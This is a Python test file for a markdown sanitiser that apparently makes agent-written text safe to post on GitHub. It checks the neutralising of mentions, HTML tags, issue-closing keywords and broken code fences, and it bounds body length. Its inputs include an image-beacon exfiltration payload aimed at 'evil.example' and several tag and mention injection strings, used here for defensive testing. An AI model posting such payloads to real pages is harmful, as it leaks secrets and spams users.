"""What strangers write is shown, and does nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from activities.github.markdown import (
    INVISIBLE,
    MAX_BODY,
    STARTERS,
    cell,
    closing_nothing,
    code,
    harmless,
    marked,
    plain,
    quote,
)
from activities.github.status_texts import STATUS_MARKER

RISKY = st.text(st.sampled_from("@<>!-&#;`|*_[]() \n\\axfi3") | st.characters(), max_size=60)


@pytest.mark.parametrize(
    "text", ["@everyone", "cc @acme/owners", "<!-- aidp:status v1 -->", "<img src=x>", "</details>"]
)
def test_mentions_and_markers_are_only_text(text: str) -> None:
    """Nobody is called, nothing is hidden, no marker of ours is planted; the letters stay."""
    shown = harmless(text)
    assert text not in shown
    assert shown.replace(INVISIBLE, "") == text


@pytest.mark.parametrize("text", ["&#64;everyone", "&commat;everyone", "![](https://evil.example/?secret)"])
def test_detours_are_closed(text: str) -> None:
    """Entities spell nothing and images fetch nothing."""
    rendered = MarkdownIt().render(harmless(text))
    assert "@everyone" not in rendered
    assert "<img" not in rendered


@pytest.mark.parametrize(
    "text",
    ["Fixes #3", "closed: GH-3", "resolve acme/calc#3", "fix https://github.com/acme/calc/issues/3", "_Fixes_ **#3**"],
)
def test_an_agent_closes_no_other_issue(text: str) -> None:
    """GitHub's closing words are broken where a reference follows."""
    shown = harmless(f"Done. {text}")
    assert text not in shown
    assert shown.replace(INVISIBLE, "") == f"Done. {text}"


@pytest.mark.parametrize(
    "text", ["This fixes the rounding", "see #3", "a prefix #3", "ada at example.org", "x < y && y"]
)
def test_ordinary_words_stay_untouched(text: str) -> None:
    """Only what would act is changed."""
    assert harmless(text) == text


def test_every_text_can_be_sent() -> None:
    """Half of a surrogate pair can not be encoded, and would be tried again for ever; whole characters stay."""
    assert harmless("Done \ud83d, \U0001f680.").encode().decode() == "Done , \U0001f680."


def test_a_title_keeps_its_code_but_closes_nothing() -> None:
    """A title may become a commit message, where decorators are welcome and closing words are not."""
    assert closing_nothing("Use @cache") == "Use @cache"
    assert "Fixes #3" not in closing_nothing("Fixes #3")


def test_an_open_code_fence_ends_with_its_quotation() -> None:
    """What an agent leaves open does not swallow the rest of the page."""
    rendered = MarkdownIt().render(quote("```py\nx = 1") + "\n\n### Checks")
    assert "<h3>Checks</h3>" in rendered


def test_too_much_text_is_cut_before_the_marker() -> None:
    """The longest body still fits GitHub's limit and still carries our marker."""
    body = marked("x" * 100_000, STATUS_MARKER)
    assert len(body) == MAX_BODY
    assert body.endswith(f"(cut)\n\n{STATUS_MARKER}")


@given(RISKY)
def test_nothing_active_is_left_and_twice_is_once(text: str) -> None:
    """Whatever the text: no starter is left, and making it harmless again changes nothing."""
    shown = harmless(text)
    assert not STARTERS.search(shown)
    assert harmless(shown) == shown


@given(RISKY)
def test_a_table_keeps_its_columns(text: str) -> None:
    """A cell of any text is one cell of a table, without tags of its own."""
    table = f"| a | b |\n|---|---|\n| {plain(text)} | {cell(code(text))} |\n"
    rendered = MarkdownIt("gfm-like", {"linkify": False}).render(table)
    assert rendered.count("<td>") == 2
    assert rendered.count("<tr>") == 2


@given(RISKY)
def test_code_is_code_to_its_end(text: str) -> None:
    """Backticks in a name do not let the rest of it out of the code span."""
    rendered = MarkdownIt().render(f"a {code(text)} b")
    assert rendered.startswith("<p>a <code>")
    assert rendered.endswith("</code> b</p>\n")
